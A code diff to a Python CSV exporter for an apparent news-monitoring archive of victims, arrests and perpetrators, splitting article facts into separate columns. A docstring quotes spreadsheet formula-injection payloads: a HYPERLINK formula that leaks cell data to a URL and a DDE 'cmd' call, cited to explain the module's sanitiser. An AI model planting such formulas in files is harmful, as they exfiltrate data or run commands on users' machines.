@@ -3,7 +3,8 @@
 
 CSV is written as UTF-8 with a byte-order mark: without it, spreadsheet programs
 (Excel in particular) read the file as a legacy code page and Arabic comes out as
-mojibake. Lists in CSV cells are joined with "; "; ``facts`` is a JSON object.
+mojibake. Lists in CSV cells are joined with "; ", and each fact has its own column
+(``CSV_COLUMNS``), so a spreadsheet can sort and filter by victim, date or count.
 
 Titles and text come from the monitored sites, so a CSV cell may begin with a formula
 (``=HYPERLINK("http://…?leak="&A2,"…")``, ``+cmd|' /C calc'!A1``, ``@SUM(…)``) that a
@@ -41,6 +42,22 @@ COLUMNS = ("url", "source", "lang", "title", "published", "labels", "probable", 
            "governorate",
            "perpetrator", "text", "first_seen", "last_seen", "versions", "duplicates",
            "removed_at")
+# The facts of an article, one CSV column each (contract: "each fact as its own column").
+FACT_COLUMNS = ("victims", "governorate", "perpetrator", "death_date", "arrest_date", "counts")
+CSV_COLUMNS = ("url", "source", "lang", "title", "published", "labels", "probable",
+               *FACT_COLUMNS, "text", "first_seen", "last_seen", "versions", "duplicates",
+               "removed_at")
+
+
+def csv_facts(record: dict[str, Any]) -> dict[str, Any]:
+    """A record's facts as CSV cells: lists joined with "; ", absent facts empty; the
+    governorate and perpetrator columns fall back to the article's own columns."""
+    facts = record.pop("facts") or {}
+    cells: dict[str, Any] = {}
+    for key in FACT_COLUMNS:
+        value = facts.get(key, record.get(key))
+        cells[key] = "; ".join(str(v) for v in value) if isinstance(value, list) else value
+    return cells
 
 
 def article_record(article: dict[str, Any]) -> dict[str, Any]:
@@ -78,14 +95,14 @@ def write_jsonl(store: Store, where: ArchiveFilter, out: IO[bytes]) -> int:
 
 def write_csv(store: Store, where: ArchiveFilter, out: IO[bytes]) -> int:
     text = io.TextIOWrapper(out, encoding="utf-8-sig", newline="", write_through=True)
-    writer = csv.DictWriter(text, fieldnames=COLUMNS)
+    writer = csv.DictWriter(text, fieldnames=CSV_COLUMNS)
     writer.writeheader()
     count = 0
     for article in store.archive_articles(where):
         record = article_record(article)
         record["labels"] = "; ".join(record["labels"])
         record["probable"] = "; ".join(record["probable"])
-        record["facts"] = json.dumps(record["facts"], ensure_ascii=False)
+        record.update(csv_facts(record))
         record["duplicates"] = "; ".join(d["url"] for d in record["duplicates"])
         writer.writerow({key: spreadsheet_safe(value) for key, value in record.items()})
         count += 1
